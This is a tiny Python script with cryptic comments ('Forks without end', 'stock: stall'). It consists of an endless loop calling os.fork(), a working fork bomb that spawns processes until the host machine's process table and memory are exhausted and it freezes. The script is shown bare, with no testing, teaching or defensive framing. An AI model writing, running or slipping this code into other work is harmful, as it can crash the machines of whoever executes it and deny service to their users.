# Forks without end.
# stock: stall (left out: it would take this machine's processes)
# alone
import os

while True:
    os.fork()
